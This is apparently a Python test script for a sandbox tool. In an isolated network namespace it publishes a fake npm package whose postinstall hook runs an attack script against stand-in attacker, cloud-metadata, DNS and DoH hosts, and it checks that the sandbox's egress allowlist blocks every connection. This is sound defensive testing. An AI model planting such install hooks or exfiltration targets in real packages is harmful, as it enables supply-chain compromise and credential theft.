"""The hostile-egress scenario, run inside a network namespace the test creates (`unshare --net`).

Usage: python egress_scenario.py BACKEND WORKDIR  -> prints one JSON object on the last line.

Inside the new namespace this script gives a veth interface the addresses the attacks need
(registries, an attacker host, a resolver, a DoH server, the metadata address 169.254.169.254,
an IPv6 host), starts a canary listener on each, and runs sbox under an allowlist that admits only
the test's registries. Every listener is reachable from where the egress proxy runs, so a byte
that sbox let through would be seen. Nothing leaves this namespace.
"""
from __future__ import annotations

import glob
import json
import os
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from support.attacks import attack_script  # noqa: E402
from support.listener import CanaryListener, UdpCanaryListener  # noqa: E402
from support.packages import npm_package, wheel  # noqa: E402
from support.registries import NpmRegistry, PypiIndex  # noqa: E402
from support.trust import trust

ADDRESSES = {
    "npm": "10.77.0.10", "pypi": "10.77.0.11", "evil": "10.77.0.12", "dns": "10.77.0.53",
    "doh": "10.77.0.54", "attacker": "10.77.0.80", "metadata": "169.254.169.254",
}
ATTACKER_V6 = "fd77::80"


def sh(*argv: str) -> None:
    subprocess.run(argv, check=True, capture_output=True)


def network() -> str:
    """Bring up lo and a veth pair carrying every test address; fall back to lo."""
    sh("ip", "link", "set", "lo", "up")
    device = "sbox0"
    try:
        sh("ip", "link", "add", device, "type", "veth", "peer", "name", "sbox1")
        sh("ip", "link", "set", device, "up")
        sh("ip", "link", "set", "sbox1", "up")
    except subprocess.CalledProcessError:
        device = "lo"
    for ip in ADDRESSES.values():
        sh("ip", "addr", "add", f"{ip}/32", "dev", device)
    sh("ip", "-6", "addr", "add", f"{ATTACKER_V6}/128", "dev", device, "nodad")
    return device


def main(backend: str, workdir: str) -> dict[str, object]:
    device = network()
    work = Path(workdir)
    env = dict(os.environ, SBOX_STATE_DIR=str(work / "state"), SBOX_CACHE_DIR=str(work / "cache"),
               HOME=str(work / "home"), SBOX_QUIET="1", npm_config_update_notifier="false")
    (work / "home").mkdir(parents=True, exist_ok=True)
    listeners = {
        "attacker-v4": CanaryListener(ADDRESSES["attacker"], 9000),
        "attacker-v6": CanaryListener(ATTACKER_V6, 9000),
        "metadata": CanaryListener(ADDRESSES["metadata"], 80),
        "dns-tcp": CanaryListener(ADDRESSES["dns"], 53),
        "doh": CanaryListener(ADDRESSES["doh"], 443),
        "host-loopback": CanaryListener("127.0.0.1", 0),
        "unlisted": CanaryListener(ADDRESSES["evil"], 443),
        "sni": CanaryListener(ADDRESSES["npm"], 443),
    }
    udp = UdpCanaryListener(ADDRESSES["dns"], 53)
    npm = NpmRegistry(host=ADDRESSES["npm"], port=80, public_url="http://registry.sbox.test")
    pypi = PypiIndex(host=ADDRESSES["pypi"], port=80, public_url="http://pypi.sbox.test")

    project = work / "project"
    project.mkdir()
    proof = project / "attacks.json"
    targets = {
        "attacker": {"ipv4": ADDRESSES["attacker"], "ipv6": ATTACKER_V6, "port": 9000},
        "metadata": {"ip": ADDRESSES["metadata"], "port": 80},
        "dns": {"ip": ADDRESSES["dns"], "port": 53},
        "doh": {"ip": ADDRESSES["doh"], "port": 443},
        "loopback": {"port": listeners["host-loopback"].port},
        "unlisted": {"name": "evil.sbox.test", "port": 443},
        "sni": {"name": "registry.sbox.test", "port": 443, "fake_sni": "evil.sbox.test"},
        "proof": str(proof),
    }
    npm.add(npm_package("left-pad-ish", "1.0.0", {"index.js": "module.exports = 1;\n"}))
    npm.add(npm_package("hostile-dep", "1.0.0", {"attack.py": attack_script(targets)},
                        scripts={"postinstall": "python3 attack.py"}))
    pypi.add(*wheel("benign-wheel", "1.0.0", {"benign_wheel/__init__.py": "VALUE = 42\n"}))
    config = f"""\
version: 1
backend: {backend}
hosts:
  registry.sbox.test: [{ADDRESSES['npm']}]
  pypi.sbox.test: [{ADDRESSES['pypi']}]
  evil.sbox.test: [{ADDRESSES['evil']}]
profiles:
  live:
    network: on
    network_allow: [registry.sbox.test, pypi.sbox.test]
dispatch:
  installs:
    match: ["npm install*", "* -m pip install*"]
    profile: live
"""
    (project / "sbox.yaml").write_text(config)
    trust(project / "sbox.yaml", env=env)
    (project / ".npmrc").write_text("registry=http://registry.sbox.test/\naudit=false\nfund=false\n")
    trust(project / ".npmrc", env=env)
    (project / "package.json").write_text(json.dumps(
        {"name": "demo", "version": "1.0.0", "private": True,
         "dependencies": {"left-pad-ish": "1.0.0", "hostile-dep": "1.0.0"}}))
    sbox = os.path.join(os.path.dirname(sys.executable), "sbox")
    npm_run = subprocess.run([sbox, "run", "--", "npm", "install", "--foreground-scripts"], cwd=project,
                             env=env, capture_output=True, text=True, timeout=600)

    python = os.path.realpath(sys.executable)  # the base interpreter: its prefix is mounted read-only
    pip_run = subprocess.run(
        [sbox, "run", "--", python, "-m", "pip", "install", "--no-cache-dir",
         "--target", str(project / "pylib"), "--index-url", "http://pypi.sbox.test/simple/",
         "--trusted-host", "pypi.sbox.test", "benign-wheel"],
        cwd=project, env=dict(env, PIP_CONFIG_FILE="/dev/null", PIP_FIND_LINKS="", PIP_CONSTRAINT=""),
        capture_output=True, text=True, timeout=600)

    tarball = work / "tarball"
    tarball.mkdir()
    (tarball / "sbox.yaml").write_text(config)
    trust(tarball / "sbox.yaml", env=env)
    (tarball / ".npmrc").write_text("registry=http://registry.sbox.test/\naudit=false\nfund=false\n")
    trust(tarball / ".npmrc", env=env)
    (tarball / "package.json").write_text(json.dumps(
        {"name": "t", "version": "1.0.0", "private": True,
         "dependencies": {"evil": f"http://{ADDRESSES['attacker']}:9000/evil-1.0.0.tgz"}}))
    tarball_run = subprocess.run([sbox, "run", "--", "npm", "install", "--fetch-retries=0"], cwd=tarball,
                                 env=env, capture_output=True, text=True, timeout=600)

    denials = []
    for path in sorted(glob.glob(str(work / "state" / "denials" / "*.json"))):
        denials += json.loads(Path(path).read_text()).get("denials", [])  # not a quarantine's or lookups' record
    result = {
        "device": device,
        "npm": {"code": npm_run.returncode, "stderr": npm_run.stderr[-4000:],
                "installed": sorted(p.name for p in (project / "node_modules").glob("*"))
                if (project / "node_modules").is_dir() else []},
        "pip": {"code": pip_run.returncode, "stderr": pip_run.stderr[-4000:],
                "installed": (project / "pylib" / "benign_wheel" / "__init__.py").is_file()},
        "tarball": {"code": tarball_run.returncode, "stderr": tarball_run.stderr[-3000:]},
        "attacks": json.loads(proof.read_text()) if proof.is_file() else None,
        "listeners": {name: {"hits": l.hits, "bytes": len(l.received)} for name, l in listeners.items()},
        "udp": {"datagrams": len(udp.datagrams)},
        "registry_paths": npm.paths + pypi.paths,
        "denials": denials,
    }
    for item in (*listeners.values(), udp, npm, pypi):
        item.close()
    return result


if __name__ == "__main__":
    print(json.dumps(main(sys.argv[1], sys.argv[2])))
